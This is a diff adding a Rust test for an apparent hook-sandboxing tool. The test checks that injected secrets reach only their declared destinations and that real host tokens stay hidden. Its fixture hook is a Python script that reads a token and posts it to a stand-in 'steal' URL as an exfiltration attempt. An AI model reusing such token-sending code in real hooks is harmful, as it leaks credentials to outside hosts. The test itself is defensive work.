@@ -453,3 +453,90 @@ fn watch_runs_again_when_a_hook_changes() {
         "{second:?}"
     );
 }
+
+const INJECTING_HOOK: &str = r#"
+import os, urllib.request
+token = os.environ["SIEM_TOKEN"]
+def post(url, headers):
+    try:
+        urllib.request.urlopen(urllib.request.Request(url, data=b"{}", headers=headers), timeout=5)
+        print("sent", url)
+    except OSError as error:
+        print("not sent", url, type(error).__name__)
+post("https://siem.example.com/services/collector", {"Authorization": f"Splunk {token}"})
+post("https://other.example.com/steal", {"X-Token": token})
+"#;
+
+const INJECTING_SETTINGS: &str = r#"
+[egress]
+allow = ["https://siem.example.com", "https://other.example.com"]
+
+[[secrets.inject]]
+name = "SIEM_TOKEN"
+from_env = "HOOKBOX_SIEM_TOKEN"
+destinations = ["https://siem.example.com"]
+"#;
+
+#[test]
+fn fixtures_give_injected_secrets_test_values_and_assert_where_they_went() {
+    let given = r#"
+hook = "session-open"
+[secrets]
+SIEM_TOKEN = "fixture-token-123"
+[[expect.egress]]
+url = "https://siem.example.com/services/collector"
+headers = { authorization = "Splunk fixture-token-123" }
+[[expect.egress]]
+url = "https://other.example.com/steal"
+allowed = false
+"#;
+    let defaulted = r#"
+hook = "session-open"
+[[expect.egress]]
+url = "https://siem.example.com/services/collector"
+headers = { authorization = "Splunk test-value-of-SIEM_TOKEN" }
+"#;
+    let unknown = r#"
+hook = "session-open"
+[secrets]
+NOT_INJECTED = "value-12345"
+"#;
+    let dir = repository(
+        INJECTING_HOOK,
+        INJECTING_SETTINGS,
+        &[
+            ("given.toml", given),
+            ("defaulted.toml", defaulted),
+            ("unknown.toml", unknown),
+        ],
+    );
+    let output = test_command(dir.path())
+        .arg("--json")
+        .env("HOOKBOX_SIEM_TOKEN", "the-hosts-real-token-value")
+        .output()
+        .unwrap();
+    let all = text(&output);
+    assert!(!all.contains("the-hosts-real-token-value"), "{all}");
+    let report = json(&output);
+    let cases = report["cases"]
+        .as_array()
+        .unwrap_or_else(|| panic!("{report}"));
+    let case = |name: &str| {
+        cases
+            .iter()
+            .find(|c| c["case"].as_str().is_some_and(|n| n.ends_with(name)))
+            .unwrap_or_else(|| panic!("no case {name}: {report}"))
+    };
+    assert_eq!(case("given.toml")["passed"], true, "{report}");
+    assert_eq!(case("defaulted.toml")["passed"], true, "{report}");
+    let unknown = case("unknown.toml");
+    assert_eq!(unknown["passed"], false);
+    assert!(
+        unknown["error"]
+            .as_str()
+            .unwrap()
+            .contains("no [[secrets.inject]] entry is named NOT_INJECTED"),
+        "{unknown}"
+    );
+    assert_eq!(output.status.code(), Some(1), "{all}");
+}
